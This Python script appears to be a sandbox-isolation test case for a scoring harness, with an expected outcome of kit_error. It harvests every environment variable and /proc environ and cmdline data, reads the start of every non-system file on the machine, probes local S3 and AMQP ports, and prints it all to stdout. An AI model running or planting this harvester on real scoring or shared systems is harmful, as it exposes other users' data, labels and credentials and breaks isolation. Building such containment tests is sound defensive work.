"""Tells its organiser all that it finds on the scorer's machine: others' data, labels, credentials.

Outcome: kit_error. There is its own kit and its own data.
Says: prepare_data.py ends with code 1
Says: all that was found
"""

import os
import socket
import sys


def everything():
    """All that can be read here: the environment, processes, mounts, and every file that is not the system's."""
    told = [repr(dict(os.environ)).encode()]
    paths = [f"/proc/{pid}/{name}" for pid in ("self", "1") for name in ("environ", "cmdline", "mountinfo")]
    skipped = ("/proc", "/usr", "/dev", "/environment", "/runner", "/bin", "/sbin", "/lib", sys.base_prefix)
    for folder, _, names in os.walk("/"):
        if not folder.startswith(skipped):
            paths += [os.path.join(folder, name) for name in names]
    for path in paths:
        try:
            with open(path, "rb") as file:
                told.append(path.encode() + b": " + file.read(1 << 12))
        except OSError as error:
            told.append(f"{path}: {error.strerror}".encode())
    for port in ({S3_PORT}, {AMQP_PORT}, {PORT}):
        try:
            socket.create_connection(("127.0.0.1", port), 2).close()
        except OSError as error:
            told.append(str(error).encode())
        else:
            # Put together, since it tells of its own source, too.
            told.append(b"BROKEN" + b" OUT: connected")
    return b"\n".join(told).decode("latin-1")


print(everything())
raise SystemExit("all that was found")
